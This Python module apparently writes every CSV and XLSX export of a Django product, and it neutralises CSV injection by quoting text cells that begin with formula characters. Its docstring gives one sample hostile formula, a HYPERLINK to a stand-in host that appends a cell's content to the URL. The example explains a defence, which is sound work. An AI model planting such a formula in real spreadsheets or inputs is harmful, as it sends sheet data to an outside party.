"""The one writer of every CSV and XLSX file the product makes.

A text typed by a visitor (a raison sociale, an evaluator's comment, a motif) may start like a
spreadsheet formula: ``=HYPERLINK("http://x.example/?d="&A1,"…")`` would become a live link
that sends the sheet's content away, ``=1+1`` would be computed. Every text cell is therefore
neutralised here (OWASP « CSV injection »): in a CSV a text starting with = + - @, a tab or a
carriage return gets a leading single quote; in an XLSX every text is written as a string cell
(never a formula) and such a text also carries Excel's quote prefix, so that it is shown exactly
as typed and stays text once edited. Numbers stay numbers.

CSV files are UTF-8 with a BOM, « ; »-separated, French decimals, dates in Europe/Paris.
"""

import csv
import io

from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def starts_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def _csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if hasattr(value, "tzinfo"):
        return timezone.localtime(value).strftime("%d/%m/%Y %H:%M:%S")
    if isinstance(value, str):
        return "'" + value if starts_a_formula(value) else value
    return str(value).replace(".", ",")


def csv_bytes(header, rows) -> bytes:
    """A CSV file of `header` and `rows` (texts neutralised, numbers with a decimal comma)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow([_csv_cell(v) for v in header])
    for row in rows:
        writer.writerow([_csv_cell(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_bytes(*, title: str, header, rows) -> bytes:
    """An XLSX workbook of one sheet: texts are string cells, never formulas; numbers are numbers."""
    from openpyxl import Workbook  # late: heavy, and only needed for XLSX files

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for row_number, row in enumerate([header, *rows], start=1):
        for column, value in enumerate(row, start=1):
            if value is not None and not isinstance(value, (str, int, float)):
                value = float(value)  # Decimal
            cell = sheet.cell(row=row_number, column=column, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
                cell.quotePrefix = starts_a_formula(value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
